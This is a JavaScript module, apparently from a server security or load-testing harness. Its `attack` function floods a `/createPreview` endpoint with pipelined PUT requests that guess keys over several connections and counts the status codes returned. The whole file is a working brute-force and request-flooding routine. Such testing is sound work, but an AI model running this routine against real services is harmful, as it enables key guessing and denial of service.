// Guesses of the key, as many as the server answers.
import { answers, drop, isOver, lanes, open, requestText, write } from './wire_http.mjs';

const team = { name: 'A', tricode: 'A', url: '', attackStart: true };

function guess(number) {
  const body = JSON.stringify({ type: 'preview', clientVersion: '0.3.20', obsName: 'X', key: `guess-${number}`, groupCode: 'GUESSX', leftTeam: team, rightTeam: team, toolsData: {} });
  return requestText('PUT', '/createPreview', body, { headers: { 'Content-Type': 'application/json' } });
}

export async function attack({ ports, until, connections = 8, pipelined = 100 }) {
  const guesses = Buffer.from(Array.from({ length: pipelined }, (_, number) => guess(number)).join(''));
  const said = { guesses: 0, answered: {} };
  await lanes(connections, until, async () => {
    const socket = await open(ports.extras);
    if (!socket) return false;
    const next = answers(socket);
    while (!isOver(until) && (await write(socket, guesses))) {
      for (let i = 0; i < pipelined && !isOver(until); ++i) {
        const answer = await next();
        if (answer === null) return drop(socket);
        ++said.guesses;
        const status = answer.slice(9, 12);
        said.answered[status] = (said.answered[status] ?? 0) + 1;
      }
    }
    drop(socket);
  });
  return said;
}
